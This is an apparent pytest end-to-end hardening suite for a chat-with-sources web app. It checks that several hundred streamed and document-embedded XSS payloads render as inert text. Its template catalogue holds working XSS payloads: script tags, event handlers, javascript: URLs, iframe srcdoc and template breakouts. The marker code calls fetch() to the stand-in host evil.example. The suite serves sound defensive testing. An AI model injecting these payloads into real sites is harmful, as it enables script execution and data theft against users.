"""Hardening row 7: 300 XSS payloads streamed into the page by the scripted model, split at
random (seeded) character boundaries, plus payloads in document titles, headings, snippets and
URLs, and in a few questions. None may run (no marker set, no console line), nothing may leave 127.0.0.1, and every
payload must be shown as plain text. The open_page fixture also fails on any CSP violation,
so markup that got into the DOM is caught even where the CSP stopped it from running."""

from __future__ import annotations

import random
import re
from typing import Any

import pytest
from fakes import ScriptedStream
from pagekit import DOCS

pytestmark = [pytest.mark.e2e, pytest.mark.hardening]

SEED = 20261125
ANSWERS = 30
PER_ANSWER = 10
QUESTION = "widget safety rules blue cabinet"

# Each template gets {js}: code that would set window.__x<n>, log XSS-<n> and fetch off-host.
# The code has no spaces so it survives URL and unquoted-attribute contexts.
FAMILIES: dict[str, list[str]] = {
    "script": [
        "<script>{js}</script>",
        "<SCRIPT>{js}</SCRIPT>",
        "<ScRiPt>{js}</sCrIpT>",
        '<script src="data:text/javascript,{js}"></script>',
        "<script type=module>{js}</script>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "<<script>script>{js}<</script>/script>",
        "</textarea><script>{js}</script>",
        "</title><script>{js}</script>",
        "<script>/*</script>*/{js}</script>",
    ],
    "handler": [
        "<img src=x onerror={js}>",
        '<img src="x" onerror="{js}">',
        "<IMG SRC=x OnErRoR={js}>",
        "<img/src=x/onerror={js}>",
        '<svg onload="{js}"></svg>',
        "<svg><animate onbegin={js} attributeName=x dur=1s>",
        "<body onload={js}>",
        "<details open ontoggle={js}>x</details>",
        "<video><source onerror={js}></video>",
        "<video src=x onerror={js}></video>",
        "<audio src=x onerror={js}>",
        "<input autofocus onfocus={js}>",
        "<marquee onstart={js}>x</marquee>",
        "<div onmouseover={js}>hover</div>",
        "<svg><script>{js}</script></svg>",
    ],
    "url": [
        "[click](javascript:{js})",
        "[click](JaVaScRiPt:{js})",
        "[click](data:text/html,<script>{js}</script>)",
        "[click](vbscript:msgbox({js}))",
        "![img](javascript:{js})",
        "![img](http://evil.example/pixel.png?{js})",
        '<a href="javascript:{js}">link</a>',
        "<a href=javascript:{js}>link</a>",
        '<a href="vbscript:{js}">link</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{js}</a>',
        "<javascript:{js}>",
        "<http://evil.example/{js}>",
        "[x]: javascript:{js}",
        '<a href="&#106;avascript:{js}">ent</a>',
        '<a href="java\tscript:{js}">tab</a>',
    ],
    "frame": [
        '<iframe srcdoc="<script>{js}</script>"></iframe>',
        "<iframe src=javascript:{js}></iframe>",
        '<iframe src="http://evil.example/{js}"></iframe>',
        '<object data="javascript:{js}"></object>',
        '<embed src="javascript:{js}">',
    ],
    "style": [
        '<div style="background:url(javascript:{js})">s</div>',
        '<div style="width:expression({js})">s</div>',
        "<style>@import 'http://evil.example/{js}.css';</style>",
        "<style>body{{background:url('http://evil.example/{js}')}}</style>",
        '<link rel=stylesheet href="http://evil.example/{js}.css">',
    ],
    "meta_form": [
        '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/{js}">',
        '<form action="javascript:{js}"><button>go</button></form>',
        '<form><button formaction="javascript:{js}">go</button></form>',
        '<base href="http://evil.example/{js}/">',
        '<isindex action="javascript:{js}" type=image>',
    ],
    "escaped": [
        "&lt;script&gt;{js}&lt;/script&gt;",
        "&#60;script&#62;{js}&#60;/script&#62;",
        "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
        "%3Cscript%3E{js}%3C/script%3E",
        "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
        "<img src=x onerror=&#x61;&#x6c;{js}>",
        "<svg><script>&#x7b;{js}&#x7d;</script></svg>",
    ],
    "breakout": [
        '"><script>{js}</script>',
        "'><img src=x onerror={js}>",
        '" onmouseover="{js}" x="',
        "' onfocus='{js}' autofocus '",
        "`><svg onload={js}>",
        "--><script>{js}</script><!--",
        "]]><script>{js}</script>",
        "</code></pre><script>{js}</script>",
        "${{{js}}}",
        "{{{{constructor.constructor('{js}')()}}}}",
    ],
}


def marker_js(n: int) -> str:
    return f"window.__x{n}=1;console.log('XSS-{n}');fetch('//evil.example/{n}')"


def payloads(count: int, rng: random.Random) -> list[str]:
    """`count` distinct payloads, round-robin over the families, each with its own marker."""
    templates = [t for family in FAMILIES.values() for t in family]
    rng.shuffle(templates)
    return [templates[n % len(templates)].format(js=marker_js(n)) for n in range(count)]


def random_splits(text: str, rng: random.Random) -> list[str]:
    """Cut `text` at random character positions into pieces of 1..12 characters."""
    pieces, start = [], 0
    while start < len(text):
        end = min(len(text), start + rng.randint(1, 12))
        pieces.append(text[start:end])
        start = end
    return pieces


def collapse(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def xss_docs(marked: list[str]) -> list[tuple[Any, ...]]:
    """Three documents carrying payloads in title, heading, text and URL."""
    docs = []
    for i in range(3):
        group = marked[i * 10 : (i + 1) * 10]
        docs.append(
            (
                f"widgets{i}",
                f"Widget handbook {i} {group[0]}",
                (f"Safety {group[1]}",),
                "Widget safety rules: widgets must be stored in the blue cabinet. "
                + " ".join(group[2:9]),
                {"public"},
                group[9] if i == 0 else f"javascript:{marker_js(900 + i)}",
            )
        )
    return docs


def test_300_streamed_payloads_render_inert(start_hearth, open_page, monkeypatch):
    rng = random.Random(SEED)
    total = ANSWERS * PER_ANSWER
    answer_payloads = payloads(total, rng)
    doc_payloads = payloads(330, random.Random(SEED + 1))[300:]  # markers 300..329
    assert len(set(answer_payloads)) == total
    asked = payloads(405, random.Random(SEED + 2))[400:]
    # every retrieved passage is shown, so every payload-carrying document reaches the sources;
    # the model's streamed text is under test, so an unsupported one is not replaced by a quote
    hearth = start_hearth(
        "unused", docs=[*DOCS, *xss_docs(doc_payloads)], focus_ratio=0, quote_unsupported=False
    )
    model = hearth.model
    streamed: list[list[str]] = []

    def stream(messages: Any, *, max_tokens: int, **_: Any) -> ScriptedStream:
        model.prompts.append([dict(m) for m in messages])
        text = model.answer(messages) if callable(model.answer) else str(model.answer)
        pieces = random_splits(text, rng)
        streamed.append(pieces)
        return ScriptedStream((p for p in pieces), truncated=False)

    monkeypatch.setattr(model, "stream", stream)
    page, watch = open_page(hearth)

    for a in range(ANSWERS):
        batch = answer_payloads[a * PER_ANSWER : (a + 1) * PER_ANSWER]
        model.answer = "Widgets must be stored in the blue cabinet. " + " ".join(batch)
        if a:
            page.click("#new-chat")
        # The first answers' questions carry a payload too (markers 400+): echoed user text.
        question = f"{QUESTION} {asked[a]}" if a < len(asked) else QUESTION
        page.fill("#question", question)
        page.press("#question", "Enter")
        answer = page.locator(".message-assistant").last
        answer.locator(".answer-meta").wait_for(state="attached", timeout=30_000)
        page.wait_for_selector("#ask:not([hidden])", timeout=30_000)
        shown = collapse(answer.locator(".answer-body").text_content() or "")
        missing = [p for p in batch if collapse(p) not in shown]
        assert missing == [], f"answer {a}: payloads not shown as text: {missing}"
        if a < len(asked):
            echoed = page.locator(".message-user").last.text_content() or ""
            assert collapse(asked[a]) in collapse(echoed), echoed

    assert len(streamed) == ANSWERS
    assert sum(len(p) for p in streamed) > total * 3  # really split inside the payloads

    if page.locator(".cite").count():
        page.locator(".cite").first.click()
    page.wait_for_timeout(500)  # give any injected handler or timer a chance to fire
    fired = page.evaluate("Object.keys(window).filter(k => /^__x\\d+$/.test(k))")
    assert fired == [], f"payload markers set: {fired}"
    hits = [line for line in watch.console if "XSS-" in line]
    assert hits == [], f"payload console output: {hits}"
    assert watch.external == [], f"requests left 127.0.0.1: {watch.external}"
    assert all(u.startswith(("http://127.0.0.1:", "data:")) for u in watch.requests)
    assert watch.dialogs == []
    for selector in ("script", "img", "iframe", "svg", "style", "object", "embed", "form",
                     "video", "audio", "details", "meta", "base", "input", "link"):  # fmt: skip
        scopes = (".answer-body", ".source-title", ".source-heading", ".source-snippet")
        count = page.locator(", ".join(f"{scope} {selector}" for scope in scopes)).count()
        assert count == 0, selector
    assert (
        page.locator("[onerror], [onload], [onfocus], [ontoggle], [style], [srcdoc]").count() == 0
    )
    hrefs = page.eval_on_selector_all("a[href]", "nodes => nodes.map(n => n.href)")
    assert all(h.startswith(("http://", "https://")) for h in hrefs), hrefs
    assert not any("evil.example" in h for h in hrefs), hrefs
    titles = collapse(page.inner_text("#source-list"))
    shown_titles = [p for p in doc_payloads[:1] + doc_payloads[10:11] if collapse(p) in titles]
    assert shown_titles, f"document payloads not shown as text in the sources: {titles[:300]}"


def test_a_quoted_source_sentence_carrying_payloads_renders_inert(start_hearth, open_page):
    """A quote puts document text in the answer body itself, not only in the sources panel."""
    carried = payloads(33, random.Random(SEED + 3))[30:]  # markers 30..32: under QUOTE_CHARS
    # a marker inside the source text must not become a citation button of the answer
    sentence = "Widget safety rules for the blue cabinet [2] " + " ".join(carried)
    doc = ("quoted", "Widget quote", ("Rules",), sentence, {"public"}, None)
    hearth = start_hearth("The moon is made of cheese.", docs=[*DOCS, doc])  # supported by none
    page, watch = open_page(hearth)
    page.fill("#question", QUESTION)
    page.press("#question", "Enter")
    answer = page.locator(".message-assistant").last
    answer.locator(".answer-meta").wait_for(state="attached", timeout=30_000)
    assert answer.locator(".badge-quoted").count() == 1
    shown = collapse(answer.locator(".answer-body").text_content() or "")
    assert "cheese" not in shown
    missing = [p for p in carried if collapse(p) not in shown]
    assert missing == [], f"quoted payloads not shown as text: {missing}"
    assert answer.locator(".cite").count() == 1
    answer.locator(".cite").first.click()
    page.wait_for_timeout(500)  # give any injected handler or timer a chance to fire
    assert page.evaluate("Object.keys(window).filter(k => /^__x\\d+$/.test(k))") == []
    assert [line for line in watch.console if "XSS-" in line] == []
    assert watch.external == [] and watch.dialogs == []
    body = answer.locator(".answer-body")
    for selector in ("script", "img", "iframe", "svg", "style", "object", "embed", "form",
                     "video", "audio", "details", "meta", "base", "input", "link"):  # fmt: skip
        assert body.locator(selector).count() == 0, selector
